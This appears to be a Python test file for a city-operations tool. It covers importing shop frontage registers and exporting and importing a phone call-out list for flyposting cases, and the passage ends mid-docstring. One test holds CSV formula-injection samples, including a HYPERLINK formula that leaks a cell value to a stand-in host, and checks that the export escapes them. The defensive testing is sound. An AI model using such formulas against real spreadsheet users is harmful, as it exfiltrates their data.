"""The frontage register (门前三包) and the call-out list (追呼/停机), on real cases from real photos."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from detect.evidence.builder import BundleContext, EvidenceBuilder, ModelInfo
from detect.evidence.config import EvidenceConfig
from detect.frames import GeoPoint
from pipelines.cases import CaseStore
from pipelines.cases.intake import Intake
from pipelines.cityops.callout import CallOutList, Status
from pipelines.shops import ShopRegister, attach_shops
from pipelines.evidence_store import LocalEvidenceStore
from pipelines.settings import Settings
from pipelines.triage import TriageSettings, run_triage
from tests.triage_helpers import phone_photo

KEY = "cityops-test-key-0123456789abcdef"
HERE = (30.2741, 120.1551)

REGISTER = """name,address,licence_no,contact,camera,polygon,gps_polygon
王记面馆,文三路 1 号,91330106MA27XY0001,王师傅 13900001111,cam-01,"[[0.3, 0.6], [0.7, 0.6], [0.7, 1.0], [0.3, 1.0]]",
王记面馆,文三路 1 号,91330106MA27XY0001,,,,"120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742; 120.1550,30.2742"
李家水果,文三路 3 号,91330106MA27XY0002,李女士,cam-01,"0.0,0.6; 0.3,0.6; 0.3,1.0; 0.0,1.0",
张记五金,文三路 5 号,,张先生,cam-01,,
坏多边形,文三路 7 号,91330106MA27XY0004,,cam-01,"[[0.1, 0.1], [0.9, 0.9], [0.9, 0.1], [0.1, 0.9]]",
越界,文三路 9 号,91330106MA27XY0005,,cam-01,"[[0.1, 0.1], [1.4, 0.1], [0.5, 0.9]]",
"""


def english(errors: list[str]) -> list[str]:
    """The English half of import errors (Chinese first, then the English: `pipelines.tables.row_message`)."""
    return [e.split(" — ", 1)[1] for e in errors]


def _intake(tmp: Path) -> Intake:
    store = CaseStore(f"sqlite:///{tmp}/cases.db")
    builder = EvidenceBuilder(EvidenceConfig(), KEY.encode(), ModelInfo("yolo11n"))
    return Intake(store, LocalEvidenceStore(tmp / "evidence"), builder, tmp / "spool")


def test_register_import_reports_bad_rows_and_keeps_the_rest(tmp_path):
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    report = register.import_file(REGISTER.encode("utf-8-sig"), "shops.csv")
    assert sorted(report.imported) == ["91330106MA27XY0001", "91330106MA27XY0002"]
    assert len(report.errors) == 3
    assert english(report.errors)[0] == ("shops.csv: row 5: polygon: no usable frontage: give `polygon` (with `camera`) or `gps_polygon`")
    assert english(report.errors)[1].startswith("shops.csv: row 6: polygon: polygon is self-intersecting"), report.errors[1]  # the field named once
    assert report.errors[1].startswith("shops.csv 第 6 行「图像范围」：范围不可用：多边形自相交或无效（"), report.errors[1]  # why, in Chinese too
    assert english(report.errors)[2].startswith("shops.csv: row 7: polygon:") and "outside [0, 1]" in report.errors[2]
    wang = register.get("91330106MA27XY0001")
    assert wang.contact == "王师傅 13900001111" and len(wang.frontages) == 2  # image and map frontage from two rows

    # A second import (Excel) with only a broken row of a known shop loses nothing already recorded.
    book = Workbook()
    book.active.append(["店名", "地址", "营业执照号", "摄像头", "图像范围"])
    book.active.append(["王记面馆", "文三路 1 号", "91330106MA27XY0001", "cam-01", "not a polygon"])
    book.active.append(["新店", "文三路 11 号", "91330106MA27XY0006", "cam-02", "[[0.1, 0.5], [0.4, 0.5], [0.4, 0.9]]"])
    buf = io.BytesIO()
    book.save(buf)
    again = register.import_file(buf.getvalue(), "shops.xlsx")
    assert again.imported == ["91330106MA27XY0006"] and "row 2: polygon:" in again.errors[0]
    assert len(register.get("91330106MA27XY0001").frontages) == 2 and len(register.list()) == 3

    with pytest.raises(Exception, match=r"shops\.csv: header: missing column\(s\) name"):
        register.import_file(b"shop_name,address\nx,y\n", "shops.csv")


def test_a_refused_map_frontage_says_why_in_chinese_naming_its_column(tmp_path):
    """A row's map polygon (gps_polygon) said 范围不可用（原因见英文）, a polygon without its camera likewise, and a row
    with both polygons whose map one was refused named 图像范围: each says its reason in Chinese and names its column."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    sheet = ("name,licence_no,camera,polygon,gps_polygon\n"
             "交叉,L1,,,\"120.1550,30.2740; 120.1552,30.2742; 120.1552,30.2740; 120.1550,30.2742\"\n"
             "写反,L2,,,\"30.2740,120.1550; 30.2740,120.1552; 30.2742,120.1552\"\n"
             "两种,L3,cam-01,\"[[0.3, 0.6], [0.7, 0.6], [0.7, 1.0]]\",\"120.1550,30.2740; 120.1552,30.2740\"\n"
             "无摄像头,L4,,\"[[0.3, 0.6], [0.7, 0.6], [0.7, 1.0]]\",\n")
    errors = register.import_file(sheet.encode(), "shops.csv").errors
    assert len(errors) == 4 and not register.list()
    assert errors[0].startswith("shops.csv 第 2 行「GPS范围」：范围不可用：多边形自相交或无效（自相交，位于 120.1551 30.2741） — "), errors[0]
    assert english(errors)[0].startswith("shops.csv: row 2: gps_polygon: polygon is self-intersecting"), errors[0]
    assert errors[1].startswith("shops.csv 第 3 行「GPS范围」：范围不可用：坐标超出经度 [-180, 180] / 纬度 [-90, 90]"), errors[1]
    assert errors[2].startswith("shops.csv 第 4 行「GPS范围」：范围不可用：多边形自相交或无效（点数太少，位于 "), errors[2]
    assert errors[3] == ("shops.csv 第 5 行「图像范围」：范围不可用：图像范围需填写它所在的摄像头 — "
                         "shops.csv: row 5: polygon: an image polygon needs the camera it is drawn in")


def test_a_row_refused_by_the_shops_own_checks_says_why_in_chinese(tmp_path):
    """A name over 200 characters, a licence number with a '/' (the shop id, one part of the API's paths) or over 64
    characters said 取值不可用（原因见英文）: the Chinese says the limit or what may not be in it."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    gps = '"120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"'
    sheet = (f"name,licence_no,gps_polygon\n{'长' * 201},L1,{gps}\n好店,91330106/MA27,{gps}\n老店,{'9' * 65},{gps}\n")
    errors = register.import_file(sheet.encode(), "shops.csv").errors
    assert [e.split(" — ")[0] for e in errors] == [
        "shops.csv 第 2 行「店名」：取值不可用：超过 200 个字符",
        "shops.csv 第 3 行「营业执照号」：取值不可用：不能含“/”或空白（营业执照号用作店铺编号）",
        "shops.csv 第 4 行「营业执照号」：取值不可用：超过 64 个字符"]
    assert english(errors)[1] == r"shops.csv: row 3: id: String should match pattern '^[^/\s]+$'" and not register.list()


def test_a_csv_cell_longer_than_pythons_csv_field_limit_is_its_rows_error(tmp_path):
    """A CSV cell of more than 131,072 characters (Python's csv field limit: a pasted blob, a system's remarks column)
    stopped the import with `_csv.Error: field larger than field limit`, a 500 on /ui/city naming neither the file nor
    the row, and no row was imported. The cell is read; its row is refused naming its column, the others imported;
    the call-out results are read alike."""
    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    register = ShopRegister(store.engine)
    gps = '"120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"'
    sheet = f"name,address,gps_polygon\n老店,\"{'长' * 200_000}\",{gps}\n新店,文三路 3 号,{gps}\n"
    report = register.import_file(sheet.encode(), "shops.csv")
    assert [e.split(" — ")[0] for e in report.errors] == ["shops.csv 第 2 行「地址」：取值不可用：超过 500 个字符"]
    assert [s.name for s in register.list()] == ["新店"]
    calls = _flyposting_list(tmp_path)
    results = f"number,status,note\n13800138000,called,\"{'见附件' * 100_000}\"\n13800138001,called,打过两次\n"
    imported = calls.import_results(results.encode(), "r.csv")
    assert [e.split(" — ")[0] for e in imported.errors] == ["r.csv 第 2 行「备注」：取值不可用：超过 2000 个字符"]
    assert imported.applied == ["13800138001"]


def test_a_call_out_results_note_is_held_to_the_rules_of_an_edit(tmp_path):
    """PUT /callout/{number} takes a note of at most 2,000 characters and no control character but line breaks; an
    import's note was taken as it came: a megabyte of it in every page of /ui/city's list that showed the number, and
    a NUL (which PostgreSQL refuses in text) stopped the whole import there. Each is its row's error, naming it."""
    calls = _flyposting_list(tmp_path)
    results = ("number,status,note\n"
               f"13800138000,called,\"{'见附件' * 1000}\"\n13800138001,called,打过\x00两次\n13800138002,called,\"打过两次\n未接\"\n")
    imported = calls.import_results(results.encode(), "r.csv")
    assert imported.errors == [
        "r.csv 第 2 行「备注」：取值不可用：超过 2000 个字符 — r.csv: row 2: note: String should have at most 2000 characters",
        "r.csv 第 3 行「备注」：含控制字符（U+0000），不是文字（可换行） — r.csv: row 3: note: the text has a control character "
        "(U+0000) that is no text (line breaks and tabs are allowed)"]
    assert imported.applied == ["13800138002"]
    assert {e.number: e.note for e in calls.entries()} == {"13800138000": None, "13800138001": None, "13800138002": "打过两次\n未接"}


def test_a_text_too_long_says_characters_in_the_english_half_too(tmp_path):
    """A licence number or a contact too long read 'Value should have at most 64 items after validation, not 65' in
    the English half (pydantic measures those texts after their validator): it says characters, as the Chinese does."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    gps = '"120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"'
    sheet = f"name,licence_no,contact,gps_polygon\n老店,{'9' * 65},,{gps}\n新店,L2,{'张' * 201},{gps}\n"
    errors = register.import_file(sheet.encode(), "shops.csv").errors
    assert english(errors) == ["shops.csv: row 2: id: String should have at most 64 characters; "
                               "licence_no: String should have at most 64 characters",
                               "shops.csv: row 3: contact: String should have at most 200 characters"], errors


def test_spillover_cases_name_the_responsible_shop(tmp_path, bus_event):
    """The real bus event stands in for a spill-over (the judgement is another engineer's): its boxes stand
    in 王记's image frontage; a photo case by GPS lands in 王记's map frontage."""
    intake = _intake(tmp_path)
    attach_shops(intake).import_file(REGISTER.encode(), "shops.csv")
    event, _ = bus_event
    spill = replace(event, violation_type="shopfront_spillover", violation_id="cam-01:front:shopfront_spillover:g1")
    case = intake.record_event(spill, BundleContext(source_kind="camera", source_id="cam-01"))
    assert case.details["shop"] == "91330106MA27XY0001" and case.details["shop_name"] == "王记面馆"

    photo = replace(spill, violation_id="photo:1:shopfront_spillover")
    case = intake.record_event(photo, BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551)))
    assert case.details["shop"] == "91330106MA27XY0001"
    elsewhere = intake.record_event(replace(spill, violation_id="photo:2:shopfront_spillover"),
                                    BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.3, 120.3)))
    assert "shop" not in elsewhere.details
    parking = intake.record_event(replace(event, violation_id="cam-01:curb:illegal_parking:t1"),
                                  BundleContext(source_kind="camera", source_id="cam-01"))
    assert "shop" not in parking.details  # only shop-front cases name a shop


@pytest.fixture
def poster_photos(tmp_path, bus_jpg):
    """The demo's wall camera view with its small-ad poster (phone 138 0013 8000), as two phone photos in one cell."""
    import cv2

    from benchmarks.media import Sprite, render
    from streetwatch.demo.media import POSTER_S, find_cjk_font, poster, wall_view

    font = find_cjk_font()
    ad = Sprite(poster(font), x=0.28, bottom=0.78, height=0.30, start_s=0, end_s=1e9)
    raw = tmp_path / "wall.jpg"
    cv2.imwrite(str(raw), render(wall_view(bus_jpg, font), [ad], POSTER_S + 1), [cv2.IMWRITE_JPEG_QUALITY, 92])
    day = tmp_path / "photos"
    phone_photo(raw, day / "0900.jpg", taken=datetime(2026, 11, 3, 9, 0), gps=HERE)
    phone_photo(raw, day / "1500.jpg", taken=datetime(2026, 11, 5, 15, 0), gps=(30.30, 120.30), crop=0.03)
    return day


def _grid(tmp: Path) -> Path:
    def cell(code, squad, lon, lat):
        ring = [[lon - 0.001, lat - 0.001], [lon + 0.001, lat - 0.001], [lon + 0.001, lat + 0.001], [lon - 0.001, lat + 0.001], [lon - 0.001, lat - 0.001]]
        return {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [ring]},
                "properties": {"id": code, "name": code, "squad": squad}}
    path = tmp / "grid.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
        cell("330106001001", "西湖中队", HERE[1], HERE[0]), cell("330106009009", "北山中队", 120.30, 30.30)]}), encoding="utf-8")
    return path


def test_call_out_list_from_flyposting_cases_export_import_round_trip(tmp_path, poster_photos, onnx_detector, monkeypatch):
    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    grid = _grid(tmp_path)
    deployment = Settings(cases={"url": f"sqlite:///{tmp_path}/cases.db"},
                          evidence_store={"local_root": str(tmp_path / "evidence"), "spool_dir": str(tmp_path / "spool")})
    result = run_triage([poster_photos], TriageSettings(out=tmp_path / "out", ocr="all", grid=grid, cases=True,
                                                        group_window_s=60),
                        detector=onnx_detector, deployment=deployment, show_progress=False)
    assert [g.type for g in result.groups] == ["flyposting", "flyposting"]  # two places, two cases

    from pipelines.cityops.hooks import squads_of

    store = CaseStore(deployment.cases.url)
    calls = CallOutList(store.engine, squads_of(grid))
    assert calls.sync() == 1
    [entry] = calls.entries()
    assert (entry.number, entry.status, entry.count, entry.squad) == ("13800138000", Status.TO_CALL, 2, "西湖中队")
    assert {p["grid_cell"] for p in entry.places} == {"330106001001", "330106009009"}
    assert len(entry.cases) == 2 and all("/originals/" in p for p in entry.photos)

    exported = calls.export(tmp_path / "callout.csv")
    rows = list(csv.reader(exported.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][0] == "number 号码" and rows[1][:4] == ['="13800138000"', "to_call", "待追呼", "2"]  # text to Excel

    # The call-out system's answer: cut off on 12 Nov, one number we never had, one unreadable status.
    rows[1][1], rows[1][10] = "已停机", "2026-11-12 10:20"
    rows.append(["139 0000 1111", "cut_off"] + [""] * 11)
    rows.append(["138-0013-8000", "disconnected"] + [""] * 11)
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    report = calls.import_results(buf.getvalue().encode("utf-8-sig"), "results.csv")
    assert report.applied == ["13800138000"] and report.unknown == ["13900001111"]
    assert "row 3: number 13900001111: not on the call-out list" in report.errors[0]
    assert "row 4: status: 'disconnected' is not one of" in report.errors[1]
    entry = calls.get("13800138000")
    assert entry.status is Status.CUT_OFF and entry.cut_off_at.astimezone(calls.tz).strftime("%m-%d %H:%M") == "11-12 10:20"

    # The quota's number status source and the monthly count per squad read the same list.
    start, end = datetime(2026, 11, 1, tzinfo=calls.tz), datetime(2026, 12, 1, tzinfo=calls.tz)
    assert set(calls.cut_off(["13800138000", "13900001111"], start, end)) == {"13800138000"}
    assert calls.cut_off(["13800138000"], datetime(2026, 10, 1, tzinfo=UTC), start) == {}
    assert calls.monthly_cut_offs(2026) == {"2026-11": {"西湖中队": 1}}
    assert calls.sync() == 1 and calls.get("13800138000").status is Status.CUT_OFF  # a re-sync keeps the status

    # The analytics' quota item (shipped sheet: 10 numbers cut off per squad and month) reads the list.
    from pipelines.analytics.config import AnalyticsConfig
    from pipelines.analytics.periods import parse_period
    from pipelines.analytics.places import load_places
    from pipelines.analytics.scoring import score_store, score_tables
    from pipelines.analytics.sheet import load_sheet
    from pipelines.cityops.callout import number_status_source

    analytics = AnalyticsConfig(grid=grid, number_status="callout")
    for case in store.list():  # the sheet counts confirmed cases only
        store.review(case.id, approve=True, reviewer="li.wei", target="city")
    source = number_status_source(analytics, store.engine, calls.tz)
    table = score_store(store.engine, load_places(analytics), load_sheet(), "squad", parse_period("2026-11"), calls.tz, source)
    quota = {u.unit: u.item("numbers_cut_off") for u in table.units}
    assert quota["西湖中队"].count == 1 and quota["西湖中队"].deduction == 9 and "cut off 1" in quota["西湖中队"].note
    # the workbook's 马路市场与号码 sheet says when, on the city's clock (the list keeps it in UTC: it said 02:20)
    groups = next(t for t in score_tables(table) if t.key == "groups")
    assert [row[2] for row in groups.rows if row[0] == "西湖中队"] == ["13800138000 停机 2026-11-12 10:20"]
    assert number_status_source(AnalyticsConfig(), store.engine, calls.tz) is None  # no CSV, no call-out list: not scored

    # Excel both ways: fined 200 yuan, then reconnected.
    xlsx = calls.export(tmp_path / "callout.xlsx")
    book = load_workbook(xlsx)
    sheet = book.active
    sheet.cell(2, 2, "reconnected_after_fine")
    sheet.cell(2, 12, 200)
    book.save(xlsx)
    assert calls.import_results(xlsx.read_bytes(), "callout.xlsx").applied == ["13800138000"]
    entry = calls.get("13800138000")
    assert entry.status is Status.RECONNECTED_AFTER_FINE and entry.amount == 200.0 and entry.cut_off_at is not None


def test_register_keeps_every_column_that_means_one_field(tmp_path):
    """A register with both 联系人 and 电话 (both mean `contact`) keeps the person and the phone: the later
    column used to overwrite the earlier one, and an empty 电话 cell dropped the contact altogether."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    book = Workbook()
    book.active.append(["店名", "统一社会信用代码", "联系人", "电话", "摄像头", "图像范围"])
    book.active.append(["王记面馆", "91330106MA27XY0001", "张三", 13800138000, "cam-01", "0.1,0.5; 0.4,0.5; 0.4,0.9"])
    book.active.append(["李家水果", "91330106MA27XY0002", "李四", None, "cam-01", "0.5,0.5; 0.8,0.5; 0.8,0.9"])
    book.active.append(["赵记", "91330106MA27XY0003", "13900001111", "13900001111", "cam-01", "0.1,0.1; 0.2,0.1; 0.2,0.2"])
    buf = io.BytesIO()
    book.save(buf)
    assert register.import_file(buf.getvalue(), "shops.xlsx").errors == []
    assert register.get("91330106MA27XY0001").contact == "张三 13800138000"
    assert register.get("91330106MA27XY0002").contact == "李四"
    assert register.get("91330106MA27XY0003").contact == "13900001111"  # the same value twice is written once


def _flyposting_list(tmp: Path) -> CallOutList:
    """A call-out list of three numbers from flyposting cases put straight into a real store."""
    from tests.analytics_helpers import G1, CaseMaker, local

    store = CaseStore(f"sqlite:///{tmp}/cases.db")
    CaseMaker(store).add("flyposting", G1, local(3), phones=["13800138000", "13800138001", "13800138002"])
    calls = CallOutList(store.engine)
    assert calls.sync() == 3
    return calls


def test_a_sync_of_the_call_out_list_writes_only_the_numbers_whose_sightings_changed(tmp_path):
    """Each sync wrote every number (a district's 500 rows for one new case); a number whose sightings are as written
    is left alone, its updated stamp with it, one seen again is updated and a new one entered."""
    import sqlalchemy as sa

    from pipelines.cases.schema import callout_numbers
    from tests.analytics_helpers import G1, CaseMaker, local

    calls = _flyposting_list(tmp_path)

    def stamps() -> dict[str, datetime]:
        with calls.engine.connect() as conn:
            return dict(conn.execute(sa.select(callout_numbers.c.number, callout_numbers.c.updated_at)).all())

    before = stamps()
    assert calls.sync() == 3 and stamps() == before  # nothing changed: nothing written
    maker = CaseMaker(CaseStore(f"sqlite:///{tmp_path}/cases.db"))
    maker.n = 1  # the list's first case was its maker's first (a violation id the store would take for that case)
    maker.add("flyposting", G1, local(4), phones=["13800138001", "13900139000"])
    assert calls.sync() == 4
    after = stamps()
    assert {n for n in after if after[n] != before.get(n)} == {"13800138001", "13900139000"}
    assert [(e.count, len(e.cases)) for e in calls.entries() if e.number == "13800138001"] == [(2, 2)]


def test_call_out_import_takes_an_edit_of_either_status_column(tmp_path):
    """Staff edit the Chinese label (状态说明) as often as the English status; an edit of 状态说明 alone used to
    be ignored silently (the number stayed 待追呼)."""
    calls = _flyposting_list(tmp_path)
    path = calls.export(tmp_path / "callout.csv")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    by_number = {r[0].strip('="'): r for r in rows[1:]}  # numbers written ="13800138000", to stay text in Excel
    by_number["13800138000"][2] = "已停机"  # only the Chinese label edited
    by_number["13800138001"][1] = "called"  # only the English status edited
    by_number["13800138002"][1:3] = ["fined", "已停机"]  # both edited, differently: refused
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    report = calls.import_results(buf.getvalue().encode("utf-8-sig"), "results.csv")
    assert sorted(report.applied) == ["13800138000", "13800138001"]
    assert calls.get("13800138000").status is Status.CUT_OFF and calls.get("13800138001").status is Status.CALLED
    [error] = report.errors
    assert english([error])[0].startswith("results.csv: row ") and "status: fined and status_zh: 已停机 disagree (now to_call)" in error
    assert calls.get("13800138002").status is Status.TO_CALL


def test_call_out_export_makes_its_folder(tmp_path):
    """`streetwatch callout export out/2026-11/追呼.xlsx` into a folder not made yet wrote a traceback
    (FileNotFoundError) instead of the file; `cases export` and `score` already make theirs."""
    calls = _flyposting_list(tmp_path)
    for name in ("追呼.xlsx", "追呼.csv"):
        path = calls.export(tmp_path / "exports" / "2026-11" / name)
        assert path.is_file() and path.stat().st_size > 0


def test_register_with_a_title_above_its_header(tmp_path):
    """An office's Excel register: a title merged across the columns and a note line above the header.
    It was refused as 'missing column(s) name' (the title was taken for the header)."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    book = Workbook()
    sheet = book.active
    sheet.append(["文新街道门前三包责任登记表"])
    sheet.merge_cells("A1:D1")
    sheet.append(["填表日期：2026年11月"])
    sheet.append(["店名", "地址", "摄像头", "图像范围"])
    sheet.append(["王记面馆", "文三路 1 号", "cam-01", "0.1,0.5; 0.4,0.5; 0.4,0.9"])
    sheet.append(["坏多边形", "文三路 7 号", "cam-01", "nope"])
    buf = io.BytesIO()
    book.save(buf)
    report = register.import_file(buf.getvalue(), "shops.xlsx")
    assert len(report.imported) == 1 and register.list()[0].name == "王记面馆"
    assert english(report.errors)[0].startswith("shops.xlsx: row 5: polygon:")  # the sheet's own row number


def test_register_polygons_typed_with_a_chinese_input_method(tmp_path):
    """`0.1，0.5；0.4，0.5；…` (full-width comma and semicolon, as a Chinese IME types them) was refused as
    'not a list of points'; it is the same polygon as the ASCII form."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    data = ("店名,摄像头,图像范围,地图范围\n"
            "王记面馆,cam-01,0.1，0.5；0.4，0.5；0.4，0.9,\n"
            "李家水果,,,120.1550，30.2740；120.1552，30.2740；120.1552，30.2742\n").encode("utf-8-sig")
    report = register.import_file(data, "shops.csv")
    assert report.errors == [] and len(report.imported) == 2
    shops = {s.name: s for s in register.list()}
    assert shops["王记面馆"].frontages[0].polygon == [[0.1, 0.5], [0.4, 0.5], [0.4, 0.9]]
    assert shops["李家水果"].frontages[0].gps[0] == [120.155, 30.274]


def test_call_out_import_reads_fines_as_staff_type_them(tmp_path):
    """`200元` and `1,000` were refused as 'could not convert string to float', a message naming no column."""
    calls = _flyposting_list(tmp_path)
    data = ("号码,状态,罚款金额\n13800138000,已罚款,200元\n13800138001,fined,\"¥1,000\"\n13800138002,fined,两百\n").encode("utf-8-sig")
    report = calls.import_results(data, "results.csv")
    assert sorted(report.applied) == ["13800138000", "13800138001"]
    assert calls.get("13800138000").amount == 200.0 and calls.get("13800138001").amount == 1000.0
    assert english(report.errors) == ["results.csv: row 4: amount: '两百' is not an amount in yuan (e.g. 200 or 200元)"]


def test_call_out_import_reads_times_excel_wrote_on_a_chinese_pc(tmp_path):
    """The exported CSV opened and saved again in Excel/WPS comes back with `2026/11/12 10:20`; refused before."""
    calls = _flyposting_list(tmp_path)
    data = "号码,状态,停机时间\n13800138000,已停机,2026/11/12 10:20\n".encode("utf-8-sig")
    assert calls.import_results(data, "results.csv").applied == ["13800138000"]
    assert calls.get("13800138000").cut_off_at.astimezone(calls.tz).strftime("%Y-%m-%d %H:%M") == "2026-11-12 10:20"


def test_call_out_import_of_an_unchanged_export_keeps_when_each_status_was_set(tmp_path):
    """Importing the list back with nothing changed re-stamped every number's status time with the import's."""
    calls = _flyposting_list(tmp_path)
    data = "号码,状态\n13800138000,已追呼\n".encode("utf-8-sig")
    calls.import_results(data, "first.csv")
    called_at = calls.get("13800138000").status_at
    untouched_at = calls.get("13800138001").status_at
    report = calls.import_results(calls.export(tmp_path / "callout.csv").read_bytes(), "callout.csv")
    assert sorted(report.applied) == ["13800138000", "13800138001", "13800138002"] and report.errors == []
    assert calls.get("13800138000").status_at == called_at and calls.get("13800138001").status_at == untouched_at
    calls.import_results("号码,状态\n13800138000,已停机\n".encode("utf-8-sig"), "second.csv")
    assert calls.get("13800138000").status_at > called_at  # a real change is stamped


def test_call_out_import_explains_a_number_excel_turned_into_a_power_of_ten(tmp_path):
    calls = _flyposting_list(tmp_path)
    report = calls.import_results("号码,状态\n1.38001E+10,called\n".encode("utf-8-sig"), "results.csv")
    assert report.applied == [] and len(report.errors) == 1
    assert english(report.errors)[0].startswith("results.csv: row 2: number: '1.38001E+10' is not one phone number (Excel showed")


def test_call_out_csv_writes_formula_text_as_text_and_reads_it_back(tmp_path):
    """A note such as `=HYPERLINK(…)` or `@SUM(…)` was written to the call-out CSV as it was, a formula that runs in
    whoever opens the file in Excel or WPS; it is written after an apostrophe, and the import reads it back as it was
    (an unchanged export imported back changes no note). Text that is one plain number and real numbers stay as they are."""
    from pipelines.tables import read_rows, write_csv

    calls = _flyposting_list(tmp_path)
    notes = {"13800138000": '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"查看")', "13800138001": "@SUM(A1:A9)",
             "13800138002": "-见备注 see the file"}
    for number, note in notes.items():
        calls.set_status(number, Status.CALLED, note=note)
    path = calls.export(tmp_path / "callout.csv")
    [header, *rows] = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    written = {r[header.index("number 号码")].strip('="'): r[header.index("note 备注")] for r in rows}
    assert written == {number: "'" + note for number, note in notes.items()}
    report = calls.import_results(path.read_bytes(), "callout.csv")
    assert report.errors == [] and {n: calls.get(n).note for n in notes} == notes

    cells = ["-5", "+3.5", "\t=1+1", "\r@x", "+86 138", -5, -2.5, "a=b", "'quoted"]
    path = write_csv(tmp_path / "cells.csv", ["-减分 deduction"], [[c] for c in cells])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))
    assert written == [
        ["'-减分 deduction"], ["-5"], ["+3.5"], ["'\t=1+1"], ["'\r@x"], ["'+86 138"], ["-5"], ["-2.5"], ["a=b"], ["'quoted"]]
    read = read_rows(path.read_bytes(), "cells.csv", {"value": ("-减分 deduction",)}, required=("value",))
    assert [row["value"] for _, row in read] == ["-5", "+3.5", "=1+1", "@x", "+86 138", "-5", "-2.5", "a=b", "'quoted"]


def test_call_out_numbers_stay_text_when_excel_opens_the_export(tmp_path):
    """Numbers were written to the CSV as bare digits, which Excel opens as numbers: a mobile shown as 1.38E+10, a
    landline Excel reads as a number losing its leading 0. They are written `="0571-87654321"`, text to Excel and WPS,
    and read back as the number; the Excel export already stored them as text cells."""
    from tests.analytics_helpers import G1, CaseMaker, local

    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
    numbers = ["0571-87654321", "021-87654321", "13800138000"]  # as detect.phones writes them
    CaseMaker(store).add("flyposting", G1, local(3), phones=numbers)
    calls = CallOutList(store.engine)
    calls.sync()
    path = calls.export(tmp_path / "callout.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        [header, *rows] = list(csv.reader(fh))
    assert sorted(r[header.index("number 号码")] for r in rows) == sorted(f'="{n}"' for n in numbers)
    report = calls.import_results(path.read_bytes(), "callout.csv")
    assert report.errors == [] and sorted(report.applied) == sorted(numbers)

    sheet = load_workbook(calls.export(tmp_path / "callout.xlsx")).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(numbers) and {c.data_type for c in cells} == {"s"}


def test_register_headers_as_an_office_words_them(tmp_path):
    """A WPS register names its columns with a note in full-width brackets (`商户名称（招牌）`), wraps a long header
    over two lines in its cell and calls the phone column 联系电话: the whole file was refused as 'missing column(s)
    name', and once the name was found the 联系电话 column was left out without a word, the shop's phone lost."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    book = Workbook()
    book.active.append(["序号", "商户名称（招牌）", "统一社会信用代码\n(营业执照号)", "联系人", "联系电话", "摄像头编号",
                        "图像范围【x,y；…】"])
    book.active.append([1, "王记面馆", "91330106MA27XY0001", "王五", 13800138000, "cam-01", "0.1,0.5; 0.4,0.5; 0.4,0.9"])
    buf = io.BytesIO()
    book.save(buf)
    report = register.import_file(buf.getvalue(), "门前三包.xlsx")
    assert report.errors == [] and report.imported == ["91330106MA27XY0001"]
    shop = register.get("91330106MA27XY0001")
    assert (shop.name, shop.contact) == ("王记面馆", "王五 13800138000")
    assert shop.frontages[0].camera == "cam-01" and len(shop.frontages[0].polygon) == 3


def test_register_with_merged_cells_as_offices_draw_them(tmp_path):
    """An office register merges cells: 联系方式 across its 联系人 and 联系电话 columns above their names, the header
    cells beside it down both header rows, and a shop's name and address down the rows of its frontages. Excel keeps
    a merged value in the first cell only, so the second header row was refused as a shop without a name, the phone
    column (no header of its own) was left out without a word, and the shop's second frontage refused ('name: empty')."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    book = Workbook()
    sheet = book.active
    sheet.append(["西湖区门前三包责任登记表"])
    sheet.append(["序号", "店名", "地址", "联系方式", None, "摄像头", "图像范围"])
    sheet.append([None, None, None, "联系人", "联系电话", None, None])
    sheet.append([1, "李家超市", "文三路 3 号", "李四", 13900139000, "cam-01", "0.5,0.5; 0.8,0.5; 0.8,0.9"])
    sheet.append([None, None, None, None, None, "cam-03", "0.1,0.5; 0.4,0.5; 0.4,0.9"])
    sheet.append([2, "王记面馆", "文二路 8 号", "王六", 13800138000, "cam-02", "nope"])
    for cells in ("A1:G1", "D2:E2", "A2:A3", "B2:B3", "C2:C3", "F2:F3", "G2:G3", "A4:A5", "B4:B5", "C4:C5", "D4:D5", "E4:E5"):
        sheet.merge_cells(cells)
    buf = io.BytesIO()
    book.save(buf)
    report = register.import_file(buf.getvalue(), "门前三包.xlsx")
    assert len(report.errors) == 1 and english(report.errors)[0].startswith("门前三包.xlsx: row 6: polygon:"), report.errors
    [shop] = register.list()
    assert (shop.name, shop.address, shop.contact) == ("李家超市", "文三路 3 号", "李四 13900139000")
    assert [f.camera for f in shop.frontages] == ["cam-01", "cam-03"]


def test_a_first_row_that_names_a_column_is_a_row_and_a_repeated_header_is_said(tmp_path):
    """A shop called `Shop` (an alias of `name`) in the first row, or a call-out result noted 备注, made the row a
